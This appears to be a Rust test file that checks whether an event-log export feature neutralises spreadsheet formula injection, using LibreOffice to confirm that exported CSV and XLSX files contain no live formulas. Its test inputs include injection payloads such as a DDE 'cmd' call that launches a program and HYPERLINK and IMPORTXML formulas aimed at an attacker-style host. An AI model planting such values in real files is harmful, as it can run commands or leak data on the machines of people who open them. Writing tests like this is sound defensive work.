//! A spreadsheet that opens an export runs nothing of it: LibreOffice, which calculates what it takes for a formula.

use std::path::Path;
use std::process::Command;

use daybook_api::export::{FileOptions, Formatter};
use daybook_api::store::events::query::Position;
use daybook_api::store::events::rows::Rows;
use daybook_shared::export::{ExportColumn, ExportFormat};
use daybook_shared::timestamp::Timestamp;
use serde_json::json;

use super::report::{self, Figures};
use super::violation::Violation;
use crate::support::program::Program;

const PROMISE: &str = "no cell is a formula";
/// How cells begin that spreadsheets run, and some that only look like it.
const BEGINNINGS: [&str; 16] = [
    "=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "'=", " =", "\"=", "=\"", ";=",
];
/// What follows: each is a formula behind a sign that begins one.
const FORMULAS: [&str; 5] = [
    "1+1",
    "SUM(A1:A9)",
    "HYPERLINK(\"https://evil.example\")",
    "cmd|' /C calc'!A0",
    "IMPORTXML(\"https://evil.example\",\"//a\")",
];

/// Texts that somebody might put into a log.
fn texts() -> Vec<String> {
    let all = BEGINNINGS
        .iter()
        .flat_map(|begin| FORMULAS.iter().map(move |formula| format!("{begin}{formula}")));
    all.collect()
}

/// A log whose every text is one of them.
fn rows() -> Rows {
    let mut rows = Rows::default();
    for (sequence, text) in (1..).zip(texts()) {
        let event = json!({
            "actor": {"kind": "member", "id": text, "name": text}, "category": "posts", "description": text,
            "error": {"code": text, "reason": text}, "id": "evt_01k9zq5v7hf2ns0d8kx3cw4m6t", "correlation_id": text,
            "occurred_at": "2026-11-21T09:30:00.000000Z", "recorded_at": "2026-11-21T09:30:00.000000Z", "sequence": sequence,
            "state": "done", "targets": [{"type": text, "id": text, "name": text}], "type": "post.created",
            "metadata": {text.as_str(): text}, "context": {"user_agent": text},
        });
        let position = Position {
            occurred_at: 0,
            sequence,
        };
        rows.push(position, &event.to_string());
    }
    rows
}

fn exported(format: ExportFormat, rows: &Rows, path: &Path) {
    let mut formatter = Formatter::new(FileOptions::of(format, Timestamp(0))).unwrap();
    let mut bytes = Vec::new();
    formatter.begin(&mut bytes).unwrap();
    formatter.rows(rows, &mut bytes).unwrap();
    match formatter.finish().unwrap() {
        Some(mut file) => drop(std::io::copy(
            &mut file,
            &mut std::fs::File::create(path).unwrap(),
        )),
        None => std::fs::write(path, bytes).unwrap(),
    }
}

/// What LibreOffice makes of a file, in its own words.
fn opened(path: &Path) -> String {
    let directory = path.parent().unwrap();
    let home = format!("-env:UserInstallation=file://{}/home", directory.display());
    let mut command = Command::new("soffice");
    command.args([&home, "--headless", "--convert-to", "fods", "--outdir"]);
    let outcome = command.arg(directory).arg(path).output();
    let outcome = outcome.unwrap_or_else(|error| panic!("soffice: {error}; run `scripts/setup office`"));
    assert!(outcome.status.success(), "{outcome:?}");
    std::fs::read_to_string(path.with_extension("fods")).unwrap()
}

fn no_formula(opened: &str) -> Result<Figures, Violation> {
    let formulas: Vec<String> = opened
        .split("table:formula=\"")
        .skip(1)
        .map(|rest| rest.split('"').next().unwrap_or_default().to_owned())
        .collect();
    if !formulas.is_empty() {
        return Err(Violation::Strange(formulas));
    }
    let cells = opened.matches("office:value-type=\"string\"").count();
    Ok(Figures::default()
        .with("texts", texts().len())
        .with("cells", cells))
}

#[tokio::test]
#[ignore = "needs LibreOffice, which `make soak` installs"]
async fn libreoffice_finds_no_formula_in_an_export() {
    let program = Program::new().await;
    let directory = tempfile::tempdir().unwrap();
    let columns = ExportColumn::ALL.len();
    for format in [ExportFormat::Csv, ExportFormat::Xlsx] {
        let path = directory.path().join(format!("export.{}", format.as_str()));
        exported(format, &rows(), &path);
        let opened = opened(&path);
        let figures = no_formula(&opened).unwrap_or_else(|violation| panic!("{violation}"));
        assert!(
            figures.get("cells") > texts().len() * columns / 3,
            "hardly a cell was read: {figures}"
        );
        report::kept(PROMISE, &program, &figures);
    }
}

#[tokio::test]
#[ignore = "needs LibreOffice, which `make soak` installs"]
async fn a_file_whose_cells_are_left_as_they_are_is_caught() {
    let program = Program::new().await;
    let directory = tempfile::tempdir().unwrap();
    let path = directory.path().join("bare.csv");
    let mut writer = csv::Writer::from_path(&path).unwrap();
    for text in texts() {
        writer.write_record([text]).unwrap();
    }
    writer.flush().unwrap();
    let violation = no_formula(&opened(&path)).unwrap_err();
    report::caught(PROMISE, &program, "cells as they are", &violation);
    assert!(matches!(violation, Violation::Strange(_)), "{violation}");
}
